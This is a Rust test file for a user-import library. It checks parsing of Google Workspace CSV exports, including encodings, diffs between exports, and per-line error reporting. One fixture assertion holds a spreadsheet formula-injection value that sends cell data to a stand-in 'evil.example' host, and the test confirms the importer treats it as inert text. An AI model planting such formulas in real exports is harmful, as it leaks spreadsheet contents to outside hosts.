use crate::common::{by_email, fixture, read};
use rolecall_import::{Options, SignIn, Source, SourceStatus, read_all};

#[test]
fn r46_google_workspace_reads_every_person_with_what_the_source_knows() {
    let (summary, people, problems) = read("google/users.csv");
    assert_eq!(summary.source, Source::GoogleWorkspace);
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!((summary.rows, summary.people, summary.problems), (8, 8, 0));
    let header = summary.header.expect("a CSV has a header");
    assert_eq!(header.columns.len(), 34);

    let ann = by_email(&people, "ann.lee@example.com");
    assert_eq!(
        (ann.first_name.as_str(), ann.last_name.as_str()),
        ("Ann", "Lee")
    );
    assert_eq!(ann.line, 2);
    assert_eq!(ann.status, SourceStatus::Active);
    assert_eq!(ann.last_sign_in, SignIn::At(1_717_056_902)); // 2024-05-30 08:15:02 UTC
    assert_eq!(ann.two_factor, Some(true));
    assert_eq!(ann.roles, vec!["/".to_string()]);
    assert_eq!(ann.title.as_deref(), Some("Chief Executive Officer"));
    assert_eq!(ann.employee_id.as_deref(), Some("E-1001"));
    assert_eq!(ann.source_id, None);

    // A quoted address over three lines: the next row still has its own line.
    let bob = by_email(&people, "bob.stone@example.com");
    assert_eq!(bob.line, 3);
    assert_eq!(bob.manager.as_deref(), Some("ann.lee@example.com"));
    assert_eq!(bob.roles, vec!["/Sales".to_string()]);
    let carla = by_email(&people, "carla.diaz@example.com");
    assert_eq!(carla.line, 6);
    assert_eq!(carla.status, SourceStatus::Suspended);
    assert_eq!(carla.last_name, "Díaz");

    assert_eq!(
        by_email(&people, "dev.patel@example.com").last_sign_in,
        SignIn::Never
    );
    // A formula-looking cell is text, as written.
    assert_eq!(
        by_email(&people, "eve.martin@example.com")
            .department
            .as_deref(),
        Some("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")
    );
    assert_eq!(
        by_email(&people, "zoe.muller@example.com").first_name,
        "Zoë"
    );
    assert!(
        summary
            .notes
            .iter()
            .any(|n| n.contains("Last Sign In [READ ONLY] read as UTC")),
        "{:?}",
        summary.notes
    );
}

#[test]
fn r46_google_workspace_later_export_differs_by_exactly_its_changes() {
    let (_, first, _) = read("google/users.csv");
    let (_, later, problems) = read("google/users-later.csv");
    assert!(problems.is_empty(), "{problems:?}");
    let emails = |people: &[rolecall_import::Person]| {
        let mut e: Vec<String> = people.iter().map(|p| p.email.clone()).collect();
        e.sort();
        e
    };
    let (a, b) = (emails(&first), emails(&later));
    let joined: Vec<_> = b.iter().filter(|e| !a.contains(e)).cloned().collect();
    let left: Vec<_> = a.iter().filter(|e| !b.contains(e)).cloned().collect();
    assert_eq!(joined, ["hana.kim@example.com", "ivan.petrov@example.com"]);
    assert_eq!(left, ["gina.rossi@example.com"]);
    let mut changed: Vec<String> = Vec::new();
    for p in &first {
        if let Some(q) = later.iter().find(|q| q.email == p.email) {
            let (mut p, mut q) = (p.clone(), q.clone());
            p.line = 0;
            q.line = 0;
            if p != q {
                changed.push(p.email.clone());
            }
        }
    }
    changed.sort();
    assert_eq!(
        changed,
        [
            "bob.stone@example.com",
            "carla.diaz@example.com",
            "dev.patel@example.com"
        ]
    );
}

#[test]
fn r51_google_workspace_rows_with_problems_name_line_and_column() {
    let (summary, people, problems) = read("google/users-problems.csv");
    let lines: Vec<(u64, Option<&str>)> = problems
        .iter()
        .map(|p| (p.line, p.column.as_deref()))
        .collect();
    assert_eq!(
        lines,
        [
            (7, Some("Email Address [Required]")),
            (8, Some("Email Address [Required]")),
            (9, Some("Last Sign In [READ ONLY]")),
            (10, None),
            (11, None),
            (12, Some("Status [READ ONLY]")),
        ],
        "{problems:#?}"
    );
    assert!(
        problems[0]
            .message
            .contains("same person as line 2 (ANN.LEE@example.com)")
    );
    assert!(
        problems[0]
            .message
            .starts_with("Line 7, column \"Email Address [Required]\"")
    );
    assert!(problems[1].message.contains("hal.jordan@example"));
    assert!(problems[2].message.contains("31st of May"));
    assert!(problems[3].message.contains("5 cells"));
    assert!(problems[4].message.contains("36 cells"));
    // The first occurrence stays a person; the last row is fine.
    assert_eq!(people.len(), 4);
    assert_eq!(by_email(&people, "ann.lee@example.com").line, 2);
    assert_eq!(by_email(&people, "mo.salah@example.com").line, 13);
    assert_eq!((summary.rows, summary.people, summary.problems), (10, 4, 6));
}

#[test]
fn r51_google_workspace_in_windows_1252_with_semicolons_and_in_utf16() {
    let (summary, people, problems) = read("google/users-windows-1252.csv");
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(
        by_email(&people, "zoe.muller@example.com").first_name,
        "Zoë"
    );
    assert_eq!(
        by_email(&people, "zoe.muller@example.com").last_name,
        "Müller"
    );
    assert_eq!(
        by_email(&people, "carla.diaz@example.com").last_name,
        "Díaz"
    );
    assert!(
        summary.notes.iter().any(|n| n.contains("windows-1252")),
        "{:?}",
        summary.notes
    );
    assert!(summary.notes.iter().any(|n| n.contains("semicolons")));

    let (_, utf8, _) = read("google/users.csv");
    for file in [
        "google/users-unicode-text.txt",
        "google/users-utf16be-no-bom.csv",
    ] {
        let (summary, people, problems) = read(file);
        assert!(problems.is_empty(), "{file}: {problems:?}");
        assert_eq!(people, utf8, "{file}");
        assert!(
            summary.notes.iter().any(|n| n.contains("UTF-16")),
            "{:?}",
            summary.notes
        );
        assert!(summary.notes.iter().any(|n| n.contains("tabs")));
    }
}

#[test]
fn r46_a_header_row_alone_is_an_error_no_people() {
    let err =
        read_all(&fixture("google/header-only.csv"), &Options::default()).expect_err("no people");
    assert!(err.to_string().contains("no people"), "{err}");
}
